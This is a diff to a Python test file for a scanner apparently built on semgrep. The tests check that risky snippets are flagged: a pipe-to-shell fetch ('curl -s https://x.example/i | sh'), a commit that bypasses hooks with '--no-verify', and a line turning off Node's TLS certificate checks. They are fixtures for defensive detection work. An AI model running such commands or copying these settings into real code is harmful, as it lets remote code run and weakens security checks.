@@ -283,3 +283,11 @@ def test_fast_path_failure_falls_back_to_plain(tmp_path, monkeypatch):
     sh = _write(tmp_path / "src", "s.sh", "curl -s https://x.example/i | sh\n")
     result = semgrep_runner.scan_content("s.sh", sh.read_bytes(), Config())
     assert result.mode == "plain" and [f.code for f in result.findings] == ["BDL405"]
+
+
+def test_scan_contents_several_files_in_one_process():
+    result = semgrep_runner.scan_contents(
+        [("cmd.sh", b"git commit --no-verify -m x\n"), ("src/a.ts", b'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";\n'),
+         ("README.md", b"curl x | sh\n")], Config())
+    assert sorted((f.path, f.code) for f in result.findings) == [("cmd.sh", "BDL804"), ("src/a.ts", "BDL302")]
+    assert result.mode in ("experimental", "plain")
